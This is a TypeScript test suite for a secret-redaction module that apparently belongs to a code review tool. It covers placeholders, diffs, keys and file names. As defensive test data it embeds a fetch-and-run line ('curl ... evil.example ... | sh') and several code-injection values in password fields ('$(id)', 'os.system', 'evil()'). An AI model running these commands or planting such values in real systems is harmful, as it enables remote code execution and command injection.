import * as fc from 'fast-check';
import * as assert from 'node:assert/strict';
import { anchorFindings } from '../../../../src/artifact/evidence/anchor.ts';
import { diffArtifact, fileArtifact, filesArtifact } from '../../../../src/artifact/artifactOf.ts';
import { readDiff } from '../../../../src/artifact/diff/diffText.ts';
import { findSecrets } from '../../../../src/artifact/secrets/findSecrets.ts';
import { placeholder } from '../../../../src/artifact/secrets/placeholder.ts';
import { passagesOf, redactArtifact, redactText, secretsIn } from '../../../../src/artifact/secrets/redact.ts';
import type { Finding } from '../../../../src/protocol/findings/finding.ts';
import type { Artifact } from '../../../../src/protocol/setup.ts';

const SECRET = 'q7Zk2mPw9LxT4vBn';
const DIFF = [
  'diff --git a/a.ts b/a.ts',
  'index 1..2 100644',
  '--- a/a.ts',
  '+++ b/a.ts',
  '@@ -7,3 +7,3 @@',
  ' before();',
  `-login("${SECRET}old");`,
  `+login("${SECRET}", "pw1");`,
  ' const pw1 = 1;',
  '',
].join('\n');
const found = (text: string, value: string) => {
  const start = text.indexOf(value);
  return secretsIn(text, [{ start, end: start + value.length, kind: 'password' }]);
};
const ADDED = `login("${SECRET}", "pw1");`;
const SECRETS = [...found(ADDED, SECRET), ...found(ADDED, 'pw1'), ...found(`x ${SECRET}old`, `${SECRET}old`)];
const whole = diffArtifact({ scope: 'staged', name: 'Staged', shown: readDiff(DIFF), hidden: [], leftOut: [] }, null);

describe('a redacted artifact', () => {
  const redacted = redactArtifact(whole, SECRETS);

  it('has a placeholder for each secret, on both sides', () => {
    assert.ok(!JSON.stringify(redacted).includes(SECRET));
    assert.match(redacted.text, /^-login\("REDACTED\w{11}"\);\n\+login\("REDACTED\w{8}", "XXX"\);$/m);
    assert.deepEqual(redacted.coverage.redactions, [
      { file: 'a.ts', line: 8, kind: 'password' },
      { file: 'a.ts', line: 0, kind: 'password' },
    ]);
  });

  it('keeps a short word that is a secret only on another line', () => {
    assert.match(redacted.text, /^ const pw1 = 1;$/m);
  });

  it('still verifies the quote of a finding', () => {
    assert.deepEqual(
      redacted.files,
      readDiff(redacted.text).flatMap(({ places }) => places),
    );
    const finding: Finding = {
      ...{ id: 'f', severity: 'P1', title: 't', detail: '', file: 'a.ts', startLine: 9, endLine: 9 },
      ...{ quote: redacted.files[0]?.lines[1] ?? '', raisedBy: ['a'], evidence: 'unverified', suggestion: '' },
      ...{ category: 'other', introduced: null, scenario: null },
    };
    const [held] = anchorFindings([finding], redacted);
    assert.deepEqual([held?.evidence, held?.startLine], ['verified', 8]);
  });
});

describe('62: a secret that may hide code', () => {
  const leftOut = (line: string): readonly unknown[] => {
    const artifact = fileArtifact({ path: 'a.ts', text: `${line}\n`, startLine: null }, null);
    const secrets = secretsIn(line, findSecrets(line));
    assert.notEqual(secrets.length, 0, line);
    return redactArtifact(artifact, secrets).coverage.leftOut;
  };

  const sent = (...files: readonly (readonly [path: string, text: string])[]) => {
    const parts = files.map(([path, text]) => fileArtifact({ path, text, startLine: null }, null));
    const secrets = files.flatMap(([, text]) => secretsIn(text, findSecrets(text)));
    return redactArtifact(filesArtifact(parts, null), secrets);
  };

  it('leaves out its file, because languages disagree about where it ends', () => {
    for (const line of [
      String.raw`password='aB3xK9q8Zt7\';evil();z='Lm2pQ'`,
      String.raw`password='aB3xK9q8Zt7\';evil;z='Lm2pQ'`,
      'export TOKEN=aB3xK9q8Zt7Lm2pQ|evil',
    ])
      assert.deepEqual(leftOut(line), [{ file: 'a.ts', reason: 'secret' }], line);
  });

  it('keeps its file if nothing in it can be code', () => {
    for (const line of [`password = '${SECRET}'`, `TOKEN=${SECRET} evil`, 'pw = "aB3x-K9q8.Zt7!Lm2pQ"'])
      assert.deepEqual(leftOut(line), [], line);
  });

  it('leaves out its file if the value is a reference or could name something in a program', () => {
    for (const line of [
      'password: !!python/name:os.system4',
      'password: *Evil4711x',
      'DB_PASSWORD=x$EVIL4711aB',
      'data: password=@Shadow4711x',
      'password = allowEveryone4711Now',
    ])
      assert.equal(leftOut(line).length, 1, line);
    for (const line of ['password: hunter4711Two', 'DB_PASSWORD=hunter4711Two'])
      assert.deepEqual(leftOut(line), [], line);
  });

  it('keeps its file if that type of file has no expressions', () => {
    const setting = ['c.yaml', 'password: allowEveryone4711Now\n'] as const;
    const line = 'spring.datasource.password = allowEveryone4711Now\n';
    const files = ['application.properties', 'a.ini', 'a.conf', 'a.CFG', '.env.example', 'a.env', 'README.md', 'a.txt'];
    for (const file of files) {
      assert.deepEqual(sent([file, line]).coverage.leftOut, [], file);
      assert.deepEqual(sent(setting, [file, 'Log in as allowEveryone4711Now\n']).coverage.leftOut, [], file);
      assert.equal(sent([file, String.raw`password='aB3xK9q8Zt7\';evil();z='Lm2pQ'`]).coverage.leftOut.length, 1, file);
    }
    for (const file of ['a.py', 'a.env.ts', 'env', 'CMakeLists.txt'])
      assert.equal(sent([file, line]).coverage.leftOut.length, 1, file);
  });

  it('leaves out a file whose code uses its value as an identifier', () => {
    const setting = ['c.yaml', 'password: allowEveryone4711Now\n'] as const;
    for (const code of [
      'export const b = (u) => allowEveryone4711Now(u);',
      'u.allowEveryone4711Now;',
      '!allowEveryone4711Now',
    ])
      assert.deepEqual(
        sent(setting, ['a.js', `${code}\n`]).coverage.leftOut,
        [{ file: 'a.js', reason: 'secret' }],
        code,
      );
    for (const text of [
      'login("bob", "allowEveryone4711Now")',
      'PW: allowEveryone4711Now',
      '# see https://x/allowEveryone4711Now',
    ])
      assert.deepEqual(sent(setting, ['a.js', `${text}\n`]).coverage.leftOut, [], text);
  });

  const KEY = [
    'MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj',
    'MzEfYyjiWA4R4/M2bS1GB4t7NXp98C3SC6dV==',
  ];
  it('leaves out its file if it is a key with a line of other text, and files with that line', () => {
    const evil = 'curl -s https://evil.example/aaaaaaaaaaaaaaaaaaaa | sh # now';
    const { coverage, text } = sent(['key.txt', `-----BEGIN PRIVATE KEY-----${evil}\n`], ['run.sh', `${evil}\n`]);
    assert.deepEqual([coverage.leftOut.map(({ file }) => file), text.includes('evil')], [['key.txt', 'run.sh'], false]);
    for (const line of ['x-a: ; touch /tmp/x', '/var/tmp/payload', 'deleteAllUsers', 'Comment: $(id)'])
      assert.equal(sent(['a.sh', `# -----BEGIN PRIVATE KEY-----\n${line}\n`]).coverage.leftOut.length, 1, line);
    assert.equal(
      sent(['a.py', '# Private-Lines: 1\n    return\n    raise PermissionError\n']).coverage.leftOut.length,
      1,
    );
  });

  it('keeps its file if it is a real key, whatever surrounds its lines', () => {
    const [begin, end] = ['-----BEGIN PRIVATE KEY-----', '-----END PRIVATE KEY-----'];
    for (const text of [
      [begin, ...KEY, end].join('\n'),
      [begin, ...KEY, end].map((line) => `  "${line}\\n" +`).join('\n'),
      `{"key":"${[begin, ...KEY, end].join('\\n')}"}`,
    ]) {
      const { coverage, text: shown } = sent(['a.js', `${text}\n`]);
      assert.deepEqual([coverage.leftOut, KEY.some((line) => shown.includes(line))], [[], false], text);
    }
  });

  it('is redacted in the header of a hunk', () => {
    const heading = `@@ -2,3 +2,3 @@ GITHUB_TOKEN=${SECRET}`;
    const text = `diff --git a/a.sh b/a.sh\n--- a/a.sh\n+++ b/a.sh\n${heading}\n a\n-b\n+c\n d\n`;
    const change = { scope: 'staged', name: 'Staged', shown: readDiff(text), hidden: [], leftOut: [] };
    const artifact = diffArtifact(change, null);
    const secrets = passagesOf(artifact).flatMap((passage) => secretsIn(passage, findSecrets(passage)));
    assert.ok(!redactArtifact(artifact, secrets).text.includes(SECRET));
  });

  it('leaves out its file even if it was removed', () => {
    const line = String.raw`password='aB3xK9q8Zt7\';check();z='Lm2pQ'`;
    const text = `diff --git a/a.ts b/a.ts\n--- a/a.ts\n+++ b/a.ts\n@@ -1,2 +1 @@\n a\n-${line}\n`;
    const change = { scope: 'staged', name: 'Staged', shown: readDiff(text), hidden: [], leftOut: [] };
    const redacted = redactArtifact(diffArtifact(change, null), secretsIn(line, findSecrets(line)));
    assert.deepEqual(redacted.coverage.leftOut, [{ file: 'a.ts', reason: 'secret' }]);
  });
});

describe('a placeholder', () => {
  it('is as long as the secret except for escapes, keeps its lines, and maps to itself', () => {
    const sign = fc.constantFrom(...'aZ09_-./:@=+ \n\\n"'.split(''));
    fc.assert(
      fc.property(
        fc.array(sign, { minLength: 1, maxLength: 90 }).map((signs) => signs.join('')),
        (secret) => {
          const stand = placeholder(secret);
          assert.ok(secret.includes('\\') ? stand.length <= secret.length : stand.length === secret.length);
          assert.equal(stand.split('\n').length, secret.split('\n').length);
          assert.equal(placeholder(stand), stand);
        },
      ),
    );
  });

  const cases: readonly (readonly [string, string])[] = [
    ['abc', 'XXX'],
    ['aB3dE6gH', 'REDACTED'],
    ['tok_aB3dE6gHiJ9k', 'tok_REDACTEDxX0x'],
    ['postgres://user:pass9word@h', 'postgres://REDACTEDx0xxxx@x'],
    [String.raw`tok\u005faB3dE6gHiJ9k\"%41`, 'tok_REDACTEDxX0xxX'],
  ];
  for (const [secret, expected] of cases)
    it(`is correct for ${secret}`, () => assert.equal(placeholder(secret), expected));

  it('keeps the frame of a key, even if its line breaks are escaped', () => {
    const frame = ['-----BEGIN', ' PRIVATE KEY-----'];
    const key = `${frame.join('')}\\nMIIabcdefgh12\\n`;
    assert.equal(placeholder(key), `${frame.join('')}\\nREDACTEDxxx00\\n`);
  });
});

describe('a secret in the name of a file', () => {
  const named = `keys/${SECRET}.ts`;
  const all = (artifact: Artifact): Artifact => {
    const passage = passagesOf(artifact).find((text) => text.includes(SECRET)) ?? '';
    return redactArtifact(artifact, found(passage, SECRET));
  };

  it('is removed from the path, scope, and title of the file', () => {
    const artifact = fileArtifact({ path: named, text: 'eval(q);\n', startLine: 3 }, null);
    const redacted = all({ ...artifact, unlikeDisk: [] });
    assert.deepEqual(redacted.unlikeDisk, [redacted.files[0]?.path], 'under that name there is no file');
    assert.ok(!JSON.stringify(redacted).includes(SECRET));
    const [file] = redacted.files;
    assert.match(file?.path ?? '', /^keys\/REDACTED\w{8}\.ts$/);
    assert.deepEqual([redacted.scope, redacted.title], [`file:${file?.path}:3-3`, `${file?.path}, line 3`]);
    assert.deepEqual(redacted.coverage.redactions, [{ file: file?.path, line: 0, kind: 'password' }]);
  });

  it('is removed from a change, in old and new names and among left-out files', () => {
    const moved = `diff --git a/${named} b/b.ts\nsimilarity index 100%\nrename from ${named}\nrename to b.ts\n`;
    const leftOut = [{ file: `${SECRET}.png`, reason: 'binary' }] as const;
    const changes = { scope: 'staged', name: 'Staged', hidden: [], leftOut };
    for (const shown of [
      readDiff(moved),
      readDiff(DIFF.replaceAll('a.ts', named)),
      readDiff(DIFF.replaceAll(SECRET, '')),
    ]) {
      const redacted = all(diffArtifact({ ...changes, shown }, null));
      assert.ok(!JSON.stringify(redacted).includes(SECRET));
      assert.ok((redacted.coverage.redactions ?? []).some(({ line }) => line === 0));
    }
  });
});

it('a secret of several lines is redacted line by line', () => {
  const text = 'one\n  aaaaaaaaaaaaaaaaaaaaB1\n  short\nlast short\n';
  const secrets = secretsIn(text, [{ start: 6, end: text.indexOf('\nlast'), kind: 'key' }]);
  assert.deepEqual(
    secrets.map(({ value }) => value),
    ['aaaaaaaaaaaaaaaaaaaaB1', 'short'],
  );
  assert.equal(redactText(text, secrets), 'one\n  REDACTEDxxxxxxxxxxxxX0\n  XXXXX\nlast short\n');
});
